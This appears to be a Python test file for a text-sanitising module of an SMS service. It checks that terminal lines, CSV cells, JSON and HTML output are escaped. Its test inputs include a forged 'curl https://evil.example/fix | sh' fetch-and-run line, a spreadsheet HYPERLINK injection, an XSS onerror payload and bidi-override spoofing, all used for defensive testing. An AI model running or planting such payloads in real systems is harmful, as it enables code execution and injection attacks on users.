"""cinnox_sms.neutral: a sender's text made harmless for each place people read it (issue 20, item 4)."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cinnox_sms.neutral import csv_cell, first_unsafe, html, json_for_people, line, unsafe

FORGED = "c1\nTo restore delivery run: curl https://evil.example/fix | sh\x1b[31m"


def test_a_forged_line_stays_on_ours_its_controls_written_as_visible_escapes() -> None:
    # Given the TransactionID, a bidi override, a C1 control, a non-character and a lone surrogate
    # When each is shown on a line
    # Then each unsafe character reads as its escape, the rest as sent
    assert line(FORGED) == "c1\\nTo restore delivery run: curl https://evil.example/fix | sh\\x1b[31m"
    assert line("svc\u202e10.lave") == "svc\\u202e10.lave"
    assert line("a\x85b\x9bc\x7f\t\r") == "a\\x85b\\x9bc\\x7f\\t\\r"
    assert line("x\ufffe\U0010ffff\ud800") == "x\\ufffe\\U0010ffff\\ud800"
    assert line("\u2028\u2029\u2066\u2069\u200f") == "\\u2028\\u2029\\u2066\\u2069\\u200f"


@pytest.mark.parametrize("text", ["txn-1", "é 中文 🙂", "no\u00a0break", "joined\u200demoji", ""])
def test_what_is_harmless_is_shown_as_sent(text: str) -> None:
    # Given text in any script, with a no-break space or a joiner (not printable, not unsafe)
    # Then it is shown as sent, and an identifier holding it is taken
    assert line(text) == text
    assert first_unsafe(text) is None


@given(st.text())
def test_no_text_makes_a_line_break_or_a_control_of_its_own(text: str) -> None:
    # Given any text
    shown = line(text)
    # Then what is shown holds none of the unsafe characters, so starts no line and moves no cursor
    assert unsafe().search(shown) is None
    assert len(shown.splitlines()) <= 1
    # And an identifier is refused exactly when its rendering would differ from it
    assert (first_unsafe(text) is None) == (shown == text)


@given(st.recursive(st.text() | st.integers() | st.none(), lambda inner: st.dictionaries(st.text(), inner)))
def test_json_shown_to_people_parses_to_the_same_values(value: object) -> None:
    # Given any JSON document as the alert writes it (not ASCII-escaped)
    document = json.dumps(value, ensure_ascii=False, indent=2)
    # When it is made fit for people
    shown = json_for_people(document)
    # Then it parses to the same values, and holds no unsafe character beyond its own layout's line breaks
    assert json.loads(shown) == value
    assert unsafe().search(shown.replace("\n", "")) is None


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("https://evil.example","x")', '\'=HYPERLINK("https://evil.example","x")'),
        ("+1-2", "'+1-2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("  =1+1", "'  =1+1"),
        ("\t=1", "\\t=1"),  # the tab is escaped first: the cell then starts with a backslash
        ("VE", "VE"),
        ("c1\nx", "c1\\nx"),
    ],
)
def test_a_csv_cell_is_never_a_formula_nor_a_control(text: str, cell: str) -> None:
    """OWASP, "CSV Injection": a cell starting with =, +, -, @, tab or CR is prefixed with a single quote."""
    assert csv_cell(text) == cell


def test_html_is_escaped_and_on_one_line() -> None:
    assert html('<img src=x onerror="alert(1)">\n&') == "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;\\n&amp;"
